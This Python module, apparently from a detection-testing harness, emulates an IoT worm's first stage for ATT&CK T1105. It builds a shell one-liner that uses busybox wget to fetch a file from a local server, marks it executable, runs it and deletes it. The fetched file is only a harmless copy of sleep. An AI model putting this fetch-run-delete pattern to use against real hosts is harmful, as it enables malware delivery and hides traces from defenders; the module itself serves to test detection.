"""Fetches a program into a temporary folder, makes it executable, runs it, unlinks it.

The first minute of most IoT worms: a one-liner that leaves a running process and no file. The
program comes from an HTTP server of our own on loopback; it is `sleep` with random bytes behind.
ATT&CK T1105, T1222.002, T1070.004.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from vedette_dev.stage import LINGER_S, Stage

TECHNIQUE = "T1105"
EXPECTS = ("attack.t1105", "attack.t1204", "attack.t1222", "attack.t1070")


def act(stage: Stage) -> str:
    payload = stage.copy(Path(shutil.which("sleep") or "/bin/sleep"), stage.folder() / "payload")
    address, port = stage.serve(payload.read_bytes())
    place = stage.folder()
    name = stage.word()
    commands = (
        f"busybox wget -q -O {name} http://{address}:{port}/{stage.word()} && "
        f"chmod 755 {name} && ./{name} {LINGER_S} & sleep 1; rm -f {name}; wait"
    )
    stage.begin()
    stage.start(["/bin/sh", "-c", commands], cwd=place)
    return name
